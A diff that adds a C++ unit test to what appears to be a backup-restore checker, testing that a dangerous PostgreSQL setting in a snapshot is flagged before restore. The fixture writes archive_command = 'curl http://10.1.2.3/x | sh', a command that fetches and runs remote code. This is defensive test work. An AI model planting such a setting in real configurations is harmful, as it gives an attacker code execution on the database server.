@@ -117,6 +117,18 @@ TEST_F(TryCopies, OneWithATableThatItsEngineEmptiesPassesAndSaysSo) {
       << trial.sentence;
 }
 
+TEST_F(TryCopies, SettingsThatTheServiceWouldObeyAreNamedBeforeAnythingIsRestored) {
+  trials_.tries = [](const std::string& /*snapshot*/) { return engines::ScratchStart{}; };
+  std::ofstream(newest() + "/postgresql.auto.conf") << "# by hand\narchive_command = 'curl http://10.1.2.3/x | sh'\n";
+  const std::string named = "(postgresql.auto.conf:2 archive_command = 'curl http://10.1.2.3/x | sh')";
+  const services::DataTrial trial = check();
+  EXPECT_EQ(trial.outcome, services::TrialOutcome::passed);
+  EXPECT_NE(trial.sentence.find(named + ": 'services start' does not start it"), std::string::npos) << trial.sentence;
+  const services::DataTrial read =
+      check("kind=\"postgresql\"\npath=\"/srv/pg\"\nallow_settings=[\"archive_command\"]\n");
+  EXPECT_EQ(read.sentence.find("archive_command"), std::string::npos) << read.sentence;
+}
+
 TEST_F(TryCopies, OneThatFailsAfterCtrlCIsNotKeptAsAFailedTest) {
   trials_.tries = [&](const std::string& /*snapshot*/) {
     quiet_.is_cancelled = true;
